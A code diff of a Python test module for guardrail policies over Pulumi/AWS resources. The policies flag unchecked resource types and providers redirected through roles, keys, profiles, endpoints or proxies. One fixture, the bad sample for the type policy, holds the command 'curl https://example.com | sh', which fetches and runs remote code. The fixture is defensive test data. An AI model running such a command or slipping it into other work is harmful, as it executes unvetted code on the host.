@@ -1,4 +1,9 @@
-"""Specs and variations of the policies about the types of resources and about providers."""
+"""Specs (the required behaviour of each policy), further cases, and variations of the guardrail policies about resource
+types and providers. No policy would notice the content of a resource whose type the pack does not know. A provider must
+not create resources in another account.
+
+A variation is a resource that is added to the recorded program.
+"""
 
 from guardrails.model import resource_types as t
 from tests.policies.policy_harness import (
@@ -10,16 +15,16 @@ from tests.policies.policy_harness import (
     expect_no_finding,
     insert_resources,
 )
-from tests.policies.program_variations import ProgramVariation, added
+from tests.policies.program_variations import ProgramVariation, add_resource, found_by
 from tests.policies.specs.sample_iam_documents import ACCOUNT
 
-TYPES, PROVIDERS = "resource-type-checked", "provider-not-redirected"
+TYPE_CHECKED, NOT_REDIRECTED = "resource-type-checked", "provider-not-redirected"
 PROVIDER = "pulumi:providers:aws"
 COMMAND = SampleResource("command:local:Command", {"create": "curl https://example.com | sh"})
 
 SPECS = (
     PolicySpec(
-        TYPES,
+        TYPE_CHECKED,
         good=[SampleResource(t.QUEUE, {"name": "q"}), SampleResource("polyphony:blocks:Queue", {}, "component")],
         bad=[COMMAND],
         message_part="No policy checks resources of the type command:local:Command",
@@ -28,10 +33,10 @@ SPECS = (
         break_program=insert_resources([COMMAND]),
     ),
     PolicySpec(
-        PROVIDERS,
+        NOT_REDIRECTED,
         good=[
             SampleResource(PROVIDER, {"region": "eu-west-1"}),
-            # Pulumi gives its default provider the settings of the stack, for example a profile.
+            # The default provider may have a profile, because Pulumi copies the settings of the stack to it.
             SampleResource(PROVIDER, {"profile": "x"}, "default_7_51_0"),
         ],
         bad=[SampleResource(PROVIDER, {"profile": "other"})],
@@ -42,9 +47,9 @@ SPECS = (
     ),
 )
 CASES: tuple[PolicyCase, ...] = (
-    expect_no_finding(PROVIDERS, SampleResource(PROVIDER, {"allowedAccountIds": f'["{ACCOUNT}"]'})),
-    expect_finding(PROVIDERS, "sets endpoints", SampleResource(PROVIDER, {"endpoints": "[]"}, "default_7_51_0")),
-    expect_finding(PROVIDERS, "sets assumeRoles", SampleResource(PROVIDER, {"assumeRoles": "[]"}, "defaults")),
+    expect_no_finding(NOT_REDIRECTED, SampleResource(PROVIDER, {"allowedAccountIds": f'["{ACCOUNT}"]'})),
+    expect_finding(NOT_REDIRECTED, "sets endpoints", SampleResource(PROVIDER, {"endpoints": "[]"}, "default_7_51_0")),
+    expect_finding(NOT_REDIRECTED, "sets assumeRoles", SampleResource(PROVIDER, {"assumeRoles": "[]"}, "defaults")),
 )
 
 UNCHECKED_TYPES = {
@@ -79,20 +84,25 @@ UNCHECKED_TYPES = {
     "type in another case": "aws:S3/bucket:Bucket",
 }
 VARIATIONS: tuple[ProgramVariation, ...] = (
-    *(added(label, kind, {}, TYPES) for label, kind in UNCHECKED_TYPES.items()),
-    added("provider with a role", PROVIDER, {"assumeRoles": '[{"roleArn": "x"}]'}, PROVIDERS),
-    added("provider with a key", PROVIDER, {"accessKey": "x", "secretKey": "y"}, PROVIDERS),
-    added("provider with a profile", PROVIDER, {"profile": "other"}, PROVIDERS),
-    added("provider with endpoints", PROVIDER, {"endpoints": '[{"s3": "https://s3.example.com"}]'}, PROVIDERS),
-    added("provider with a web identity", PROVIDER, {"assumeRoleWithWebIdentity": "{}"}, PROVIDERS),
-    added("provider with a proxy", PROVIDER, {"httpsProxy": "http://proxy.example.com"}, PROVIDERS),
+    *found_by(TYPE_CHECKED, *(add_resource(label, kind, {}) for label, kind in UNCHECKED_TYPES.items())),
+    *found_by(
+        NOT_REDIRECTED,
+        add_resource("provider with a role", PROVIDER, {"assumeRoles": '[{"roleArn": "x"}]'}),
+        add_resource("provider with a key", PROVIDER, {"accessKey": "x", "secretKey": "y"}),
+        add_resource("provider with a profile", PROVIDER, {"profile": "other"}),
+        add_resource("provider with endpoints", PROVIDER, {"endpoints": '[{"s3": "https://s3.example.com"}]'}),
+        add_resource("provider with a web identity", PROVIDER, {"assumeRoleWithWebIdentity": "{}"}),
+        add_resource("provider with a proxy", PROVIDER, {"httpsProxy": "http://proxy.example.com"}),
+    ),
     # Harmless.
-    added("provider of a region", PROVIDER, {"region": "eu-west-1"}),
-    added("provider with tags", PROVIDER, {"region": "eu-west-1", "defaultTags": '{"tags": {"Owner": "x"}}'}),
-    added("component", "polyphony:blocks:Workflow", {}),
-    added("metric filter", t.METRIC_FILTER, {"name": "x", "logGroupName": "/x", "pattern": "x"}),
-    added("bucket metric", t.BUCKET_METRIC, {"bucket": "polyphony-prod-ingestion-lake-123456789012", "name": "all"}),
-    added("route", "aws:ec2/route:Route", {"routeTableId": UNKNOWN, "destinationCidrBlock": "10.0.0.0/16"}),
-    added("alias", t.FUNCTION_ALIAS, {"name": "next", "functionName": "x", "functionVersion": "1"}),
-    added("table of a catalog", "aws:glue/catalogTable:CatalogTable", {"name": "x", "databaseName": "y"}),
+    add_resource("provider of a region", PROVIDER, {"region": "eu-west-1"}),
+    add_resource("provider with tags", PROVIDER, {"region": "eu-west-1", "defaultTags": '{"tags": {"Owner": "x"}}'}),
+    add_resource("component", "polyphony:blocks:Workflow", {}),
+    add_resource("metric filter", t.METRIC_FILTER, {"name": "x", "logGroupName": "/x", "pattern": "x"}),
+    add_resource(
+        "bucket metric", t.BUCKET_METRIC, {"bucket": "polyphony-prod-ingestion-lake-123456789012", "name": "all"}
+    ),
+    add_resource("route", "aws:ec2/route:Route", {"routeTableId": UNKNOWN, "destinationCidrBlock": "10.0.0.0/16"}),
+    add_resource("alias", t.FUNCTION_ALIAS, {"name": "next", "functionName": "x", "functionVersion": "1"}),
+    add_resource("table of a catalog", "aws:glue/catalogTable:CatalogTable", {"name": "x", "databaseName": "y"}),
 )
